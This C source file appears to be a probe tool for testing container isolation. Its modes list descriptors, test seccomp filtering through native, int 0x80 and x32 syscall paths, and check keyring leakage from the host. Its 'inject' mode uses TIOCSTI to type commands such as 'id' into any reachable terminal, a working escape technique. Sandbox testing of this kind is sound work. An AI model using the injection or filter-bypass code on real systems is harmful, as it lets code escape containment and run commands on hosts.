/* SPDX-License-Identifier: ISC */
/* Looks at itself from inside a container, without a shell or a library in between. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* One line per descriptor: number, kind, and for what has a place in a file system its device. */
static int show_fds(void)
{
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) != 0)
			continue;
		const char *kind = S_ISFIFO(st.st_mode)	  ? "pipe"
				   : S_ISSOCK(st.st_mode) ? "socket"
				   : S_ISDIR(st.st_mode)  ? "directory"
				   : S_ISREG(st.st_mode)  ? "file"
				   : S_ISBLK(st.st_mode)  ? "block"
				   : S_ISCHR(st.st_mode)  ? "char"
							  : "other";
		printf("%d %s %lx:%lx", fd, kind, (unsigned long)st.st_dev, (unsigned long)st.st_rdev);
		if (isatty(fd))
			printf(" tty");
		if (fcntl(fd, F_GETFL) & O_PATH)
			printf(" path");
		puts("");
	}
	return 0;
}

static long call_int80(long nr, long a, long b, long c)
{
#ifdef __x86_64__
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
#else
	(void)nr, (void)a, (void)b, (void)c;
	return -ENOSYS;
#endif
}

/* Runs one probe in a child, so that a filter that kills is an answer, too. */
static void probe(const char *name, long (*call)(long, long, long, long), long nr, long a, long b, long c)
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		long ret = call(nr, a, b, c);
		printf("%s %ld\n", name, ret < 0 ? ret : 0);
		exit(0);
	}
	int status;
	waitpid(pid, &status, 0);
	if (WIFSIGNALED(status))
		printf("%s signal %d\n", name, WTERMSIG(status));
}

static long call_native(long nr, long a, long b, long c)
{
	long ret = syscall(nr, a, b, c);
	return ret < 0 ? -errno : ret;
}

static int show_calls(void)
{
	probe("unshare(CLONE_NEWUSER)", call_native, SYS_unshare, 0x10000000, 0, 0);
	probe("keyctl", call_native, SYS_keyctl, 0, KEY_SPEC_SESSION_KEYRING, 0);
	probe("mount", call_native, SYS_mount, 0, 0, 0);
	probe("bpf", call_native, SYS_bpf, 0, 0, 0);
	probe("personality", call_native, SYS_personality, 0x0040000, 0, 0);
#ifdef __x86_64__
	/* The same by the numbers of i386 (unshare 310, keyctl 288, mount 21, bpf 357, personality 136) ... */
	probe("int80 unshare(CLONE_NEWUSER)", call_int80, 310, 0x10000000, 0, 0);
	probe("int80 keyctl", call_int80, 288, 0, KEY_SPEC_SESSION_KEYRING, 0);
	probe("int80 mount", call_int80, 21, 0, 0, 0);
	probe("int80 bpf", call_int80, 357, 0, 0, 0);
	probe("int80 personality", call_int80, 136, 0x0040000, 0, 0);
	/* ... and of x32. */
	probe("x32 getpid", call_native, 0x40000000 + SYS_getpid, 0, 0, 0);
	probe("x32 unshare(CLONE_NEWUSER)", call_native, 0x40000000 + SYS_unshare, 0x10000000, 0, 0);
	probe("x32 keyctl", call_native, 0x40000000 + SYS_keyctl, 0, KEY_SPEC_SESSION_KEYRING, 0);
#endif
	return 0;
}

/* Types text into every terminal that can be reached from here. */
static int inject(const char *text)
{
	int typed = 0;
	for (int fd = -1; fd < 64; fd++) {
		int tty = fd < 0 ? open("/dev/tty", O_RDWR | O_CLOEXEC) : fd;
		for (const char *c = text; *c; c++)
			if (ioctl(tty, TIOCSTI, c) == 0)
				typed++;
		/* TIOCLINUX, paste: harmless where there is no console. */
		char paste = 3;
		ioctl(tty, TIOCLINUX, &paste);
	}
	printf("typed %d\n", typed);
	return 0;
}

/* Looks for a key of the caller's in every keyring that a process begins with. */
static int find_key(const char *name)
{
	const int rings[] = {KEY_SPEC_THREAD_KEYRING, KEY_SPEC_PROCESS_KEYRING, KEY_SPEC_SESSION_KEYRING};
	for (size_t i = 0; i < sizeof(rings) / sizeof(*rings); i++)
		if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", name, 0) >= 0)
			printf("found in %d\n", rings[i]);
	printf("session %ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	return 0;
}

/* On the host: puts a key into the session keyring, then executes the rest of the command line. */
static int with_key(const char *name, char **argv)
{
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	if (syscall(SYS_add_key, "user", name, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
		perror("add_key");
	fprintf(stderr, "session %ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	execvp(argv[0], argv);
	perror(argv[0]);
	return 1;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (strcmp(what, "fds") == 0)
		return show_fds();
	if (strcmp(what, "calls") == 0)
		return show_calls();
	if (strcmp(what, "inject") == 0)
		return inject(argc > 2 ? argv[2] : "id\n");
	if (strcmp(what, "key") == 0 && argc > 2)
		return find_key(argv[2]);
	if (strcmp(what, "with-key") == 0 && argc > 3)
		return with_key(argv[2], argv + 3);
	fprintf(stderr, "usage: attacker fds | calls | inject [TEXT] | key NAME | with-key NAME COMMAND...\n");
	return 2;
}
